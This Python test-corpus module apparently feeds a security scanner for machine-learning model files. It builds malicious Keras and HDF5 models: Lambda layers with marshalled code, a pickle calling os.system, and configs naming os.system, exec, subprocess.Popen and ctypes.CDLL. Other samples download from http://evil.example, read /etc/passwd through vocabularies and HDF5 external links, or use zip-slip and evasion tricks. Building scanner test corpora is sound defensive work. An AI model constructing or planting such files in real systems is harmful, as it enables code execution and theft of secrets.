"""Attacks in Keras models: Lambda code, configurations that name foreign callables or files, HDF5 links."""

# ruff: noqa: E501  # a table: one technique stays on one line where it can

from __future__ import annotations

import base64
import io
import json
import marshal
from collections.abc import Callable

from tests.corpus.opcodes import call, program
from tests.corpus.payload import EXPRESSION, SHELL
from tests.corpus.technique import table
from tests.corpus.torch_archives import checkpoint, data
from tests.corpus.zips import Member, archive, folder

Json = dict[str, object]
PICKLE = program(call("os:system", SHELL))


def thing(module: str | None, class_name: str, config: object, registered: str | None = None) -> Json:
    """A serialized Keras object."""
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered}


def layer(
    class_name: str, module: str = "keras.layers", registered: str | None = None, **config: object
) -> Json:
    """A serialized layer with a name."""
    return thing(module, class_name, {"name": class_name.lower(), **config}, registered)


INPUT = layer("InputLayer", batch_shape=[None, 2], dtype="float32")
DENSE = layer("Dense", units=1)


def model(*layers: Json, **more: object) -> Json:
    """A sequential model."""
    return thing("keras", "Sequential", {"name": "m", "layers": [INPUT, *layers]}) | more


def keras(config: Json, weights: bytes = b"", **members: bytes) -> bytes:
    """A .keras archive."""
    files = {"metadata.json": b'{"keras_version": "3.11.0", "date_saved": "2026-01-01@00:00:00"}',
             "config.json": json.dumps(config).encode(), "model.weights.h5": weights}  # fmt: skip
    return folder(files | {key.replace("__", "/"): each for key, each in members.items()})


def function(module: str, name: str) -> Json:
    """A function by its name."""
    return thing(module, "function", name, name)


def marshalled() -> str:
    """The code of a lambda that makes the marker."""
    made = eval(f"lambda x: [{EXPRESSION}, x][1]")
    return base64.b64encode(marshal.dumps(made.__code__)).decode()


def lambda_layer(**more: object) -> Json:
    """A Lambda with marshalled code."""
    code = {"class_name": "__lambda__", "config": {"code": marshalled(), "defaults": None, "closure": None}}
    return layer("Lambda", function=code, arguments={}, **more)


def functional(*layers: Json) -> Json:
    """A functional chain of the layers."""
    nodes = []
    names = [str(each["config"]["name"]) for each in (INPUT, *layers)]  # type: ignore[index]
    for place, each in enumerate((INPUT, *layers)):
        before = {"class_name": "__keras_tensor__", "config": {
            "shape": [None, 2], "dtype": "float32", "keras_history": [names[place - 1], 0, 0]}}  # fmt: skip
        nodes.append(each | {"name": names[place],
                             "inbound_nodes": [{"args": [before], "kwargs": {}}] if place else []})  # fmt: skip
    return thing("keras.src.models.functional", "Functional", {"name": "m", "layers": nodes, "input_layers": [[names[0], 0, 0]],
                                         "output_layers": [[names[-1], 0, 0]]}, "Functional")  # fmt: skip


def _torch_wrapper() -> bytes:
    pickled = base64.b64encode(checkpoint(data(PICKLE))).decode()
    return keras(
        model(
            layer("TorchModuleWrapper", module="keras.layers", output_shape=None)
            | {"config": {"name": "t", "module": {"class_name": "__bytes__", "config": pickled}}}
        )
    )


LIVE: dict[str, Callable[[], bytes]] = {
    "lambda-marshalled": lambda: keras(model(lambda_layer())),
    "lambda-in-functional": lambda: keras(functional(lambda_layer())),
    "lambda-in-nested-model": lambda: keras(model(model(lambda_layer()))),
    "lambda-in-time-distributed": lambda: keras(
        thing("keras", "Sequential", {"name": "m", "layers": [
            layer("InputLayer", batch_shape=[None, 3, 2], dtype="float32"),
            layer("TimeDistributed", layer=lambda_layer())]})),
    "lambda-deflated": lambda: archive(*(Member(name, octets, deflate=True) for name, octets in {
        "metadata.json": b'{"keras_version": "3.11.0"}', "config.json": json.dumps(model(lambda_layer())).encode(),
        "model.weights.h5": b""}.items())),
}  # fmt: skip
table("keras", "model.keras", "keras", LIVE, needs=("keras",))

_GADGETS: dict[str, Json] = {
    "lambda-named-os": model(layer("Lambda", function=function("os", "system"), arguments={})),
    "lambda-named-builtins": model(layer("Lambda", function=function("builtins", "exec"), arguments={})),
    "function-as-layer": functional(function("os", "system") | {"config": {"name": "system"}}),
    "foreign-class-as-layer": model(thing("subprocess", "Popen", {"args": ["id"]})),
    "foreign-class-builtins": model(thing("builtins", "eval", {"name": "x"})),
    "get-file": model(layer("Lambda", function=function("keras.utils", "get_file"),
                            arguments={"origin": "http://evil.example/x.tar", "extract": True})),
    "get-file-src": model(layer("Lambda", function=function("keras.src.utils.file_utils", "get_file"), arguments={})),
    "enable-unsafe": model(layer("Lambda", function=function("keras.config", "enable_unsafe_deserialization"),
                                 arguments={})),
    "load-model-inside": model(layer("Lambda", function=function("keras.saving", "load_model"),
                                     arguments={"filepath": "http://evil.example/m.keras"})),
    "activation-gadget": model(layer("Dense", units=1, activation=function("os", "system"))),
    "initializer-gadget": model(layer("Dense", units=1, kernel_initializer=thing("os", "system", {}))),
    "regularizer-gadget": model(layer("Dense", units=1, kernel_regularizer=function("runpy", "run_path"))),
    "constraint-gadget": model(layer("Dense", units=1, kernel_constraint=thing("ctypes", "CDLL", {"name": "x"}))),
    "dtype-gadget": model(layer("Dense", units=1, dtype=thing("os", "system", {"name": "x"}))),
    "loss-gadget": model(DENSE, compile_config={"loss": function("os", "system"), "optimizer": "adam"}),
    "metric-gadget": model(DENSE, compile_config={"optimizer": "adam", "metrics": [function("builtins", "exec")]}),
    "optimizer-gadget": model(DENSE, compile_config={"optimizer": thing("subprocess", "Popen", {"args": ["id"]})}),
    "custom-registered": model(layer("Payload", "my_package.layers", "my_package>Payload")),
    "custom-object-module": model(layer("Payload", "evil_module", None)),
    "numpy-function": model(layer("Lambda", function=function("numpy", "load"), arguments={"file": "x.npy",
                                                                                        "allow_pickle": True})),
    "string-lookup-file": model(layer("StringLookup", vocabulary="/etc/passwd")),
    "string-lookup-url": model(layer("StringLookup", vocabulary="gs://evil/vocabulary.txt")),
    "integer-lookup-file": model(layer("IntegerLookup", vocabulary="../../secrets.txt")),
    "text-vectorization-file": model(layer("TextVectorization", vocabulary="/etc/passwd")),
    "text-vectorization-standardize": model(layer("TextVectorization", standardize=function("os", "system"))),
    "tfsm-layer": model(layer("TFSMLayer", filepath="//evil.example/share/model")),
    "python-wrapper-jax": model(layer("JaxLayer", call_fn=function("os", "system"))),
    "tf-op-lambda-readfile": functional(layer("TFOpLambda", function="io.read_file")),
    "slicing-op-foreign": model(thing("keras.src.ops.operation", "Operation", {}) | {"module": "shutil.rmtree"}),
}  # fmt: skip
table("keras", "model.keras", "", {key: keras(config) for key, config in _GADGETS.items()})
table("keras", "model.keras", "", {
    "torch-module-wrapper": _torch_wrapper,
    "pickle-member": lambda: keras(model(DENSE), assets__tokenizer=PICKLE),
    "zip-slip": lambda: keras(model(DENSE), **{"../../evil.py": b"x"}),
    "duplicate-config": lambda: archive(
        Member("metadata.json", b"{}"), Member("config.json", json.dumps(model(DENSE)).encode()),
        Member("config.json", json.dumps(model(lambda_layer())).encode()), Member("model.weights.h5", b"")),
    "duplicate-key": lambda: folder({"metadata.json": b"{}", "model.weights.h5": b"", "config.json": json.dumps(
        model(lambda_layer())).encode()[:-1] + b', "config": {"name": "m", "layers": []}}'}),
    "unicode-escaped-names": lambda: folder({"metadata.json": b"{}", "model.weights.h5": b"", "config.json":
        json.dumps(model(lambda_layer())).encode().replace(b"Lambda", b"\\u004cambda")}),
    "inside-zip": lambda: folder({"m.keras": keras(model(lambda_layer()))}),
})  # fmt: skip
table("keras", "model.zip", "", {"misnamed-zip": lambda: keras(model(lambda_layer()))})
table("keras", "config.json", "", {"bare-config": lambda: json.dumps(model(lambda_layer())).encode()})


def h5(config: Json | None, fill: Callable[[object], object] = lambda file: None) -> bytes:
    """A legacy HDF5 model."""
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        if config is not None:
            file.attrs["keras_version"], file.attrs["backend"] = "2.15.0", "tensorflow"
            file.attrs["model_config"] = json.dumps(config)
        file.create_group("model_weights").attrs["layer_names"] = []
        fill(file)
    return out.getvalue()


def _old(config: Json) -> Json:
    """As Keras 2 wrote it."""
    return {"class_name": config["class_name"], "config": config["config"]}


def _old_lambda() -> Json:
    made = eval(f"lambda x: [{EXPRESSION}, x][1]")
    code = base64.b64encode(marshal.dumps(made.__code__)).decode()
    held = {"name": "l", "function": [code, None, None], "function_type": "lambda", "arguments": {}}
    return {"class_name": "Sequential", "config": {"name": "m", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 2], "dtype": "float32", "name": "i"}},
        {"class_name": "Lambda", "config": held}]}}  # fmt: skip


def _external_link(file: object) -> None:
    import h5py

    file["model_weights/w"] = h5py.ExternalLink("/etc/passwd", "/")  # type: ignore[index]


def _external_storage(file: object) -> None:
    file.create_dataset("w", (100,), "u1", external=[("/etc/passwd", 0, 100)])  # type: ignore[attr-defined]


def _virtual(file: object) -> None:
    import h5py

    layout = h5py.VirtualLayout((10,), "u1")
    layout[:] = h5py.VirtualSource("/etc/passwd", "x", (10,))
    file.create_virtual_dataset("w", layout)  # type: ignore[attr-defined]


table("keras-h5", "model.h5", "keras", {
    "lambda": lambda: h5(_old(model(lambda_layer()))),
}, needs=("h5py", "keras"))  # fmt: skip
table("keras-h5", "model.h5", "", {
    "lambda-keras-2": lambda: h5(_old_lambda()),
    "lambda-named-os": lambda: h5(_old(model(layer("Lambda", function="system", module="os", function_type="function")))),
    "custom-layer": lambda: h5(_old(model(layer("Payload", "evil", "evil>Payload")))),
    "nested-lambda": lambda: h5(_old(model(model(lambda_layer())))),
    "vocabulary-file": lambda: h5(_old(model(layer("StringLookup", vocabulary="/etc/passwd")))),
    "external-link": lambda: h5(None, _external_link),
    "external-storage": lambda: h5(_old(model(DENSE)), _external_storage),
    "virtual-dataset": lambda: h5(None, _virtual),
    "training-config-gadget": lambda: h5(_old(model(DENSE)), lambda file: file.attrs.update(  # type: ignore[attr-defined]
        {"training_config": json.dumps({"loss": function("os", "system")})})),
}, needs=("h5py",))  # fmt: skip
table("keras-h5", "model.keras", "", {
    "external-link-in-weights": lambda: keras(model(DENSE), h5(None, _external_link)),
    "external-storage-in-weights": lambda: keras(model(DENSE), h5(None, _external_storage)),
    "h5-named-keras": lambda: h5(_old(model(lambda_layer()))),
}, needs=("h5py",))  # fmt: skip
